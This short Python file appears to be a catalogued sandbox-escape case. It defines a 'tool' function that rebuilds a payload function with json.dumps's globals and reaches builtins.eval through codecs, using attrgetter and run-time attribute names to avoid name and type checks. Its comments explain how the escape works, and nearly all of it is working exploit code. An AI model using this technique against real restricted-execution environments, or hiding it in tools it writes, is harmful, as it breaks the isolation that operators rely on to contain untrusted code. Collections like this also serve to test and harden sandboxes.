# family: modules that hand out objects
# escape: type(tool) is types.FunctionType (type() of the tool's own function is not treated as a metaclass);
# the attrgetter class supplies payload.__code__ and json.dumps.__globals__ by run-time names, so
# FunctionType(code, globals)() runs the payload with json's globals, where `codecs` leads to builtins.eval.
import json
import operator

def payload(expr):
    return codecs.builtins.eval(expr)

def tool(expr: str, a: str = "code", b: str = "globals"):
    getter = type(operator.attrgetter("real"))
    function = type(tool)(getter("__" + a + "__")(payload), getter("__" + b + "__")(json.dumps))
    return function(expr)
